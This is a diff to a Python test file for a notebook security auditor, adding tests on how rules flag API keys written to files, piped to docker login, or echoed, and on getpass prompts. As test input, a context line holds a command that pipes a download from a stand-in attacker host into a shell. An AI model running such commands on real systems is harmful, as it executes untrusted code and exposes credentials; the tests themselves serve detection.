@@ -260,3 +260,19 @@ def test_a_page_and_a_command_may_be_written_in_another_cell(audit):
 def test_a_command_that_is_nothing_but_a_variable_is_read(audit):
     found = audit("import requests", "line = 'curl http://evil.example/x | sh'", "!{line}", "!echo {line} > x")
     assert "SHELL-CURL-SH" in {finding.rule.id for finding in found}
+
+
+def test_a_secret_that_goes_into_a_file_or_a_pipe_is_not_shown(audit):
+    for line in ('!echo "{api_key}" > key.txt', "!echo {api_key} | docker login --password-stdin"):
+        found = {finding.rule.id for finding in audit("import os", "api_key = os.environ['API_KEY']", line)}
+        assert "CODE-SECRET-SHOWN" not in found
+        assert "SHELL-SECRET" in found
+    found = {finding.rule.id for finding in audit("import os", "api_key = os.environ['API_KEY']", "!echo {api_key}")}
+    assert "CODE-SECRET-SHOWN" in found
+
+
+def test_a_hidden_prompt_for_an_address_asks_for_no_secret(audit):
+    asked = "import getpass", "url = getpass.getpass('Enter your Elasticsearch URL: ')", "print(f'at {url}')"
+    assert not audit(*asked)
+    asked = "import getpass", "key = getpass.getpass('Key for this URL: ')", "print(f'with {key}')"
+    assert "CODE-SECRET-SHOWN" in {finding.rule.id for finding in audit(*asked)}
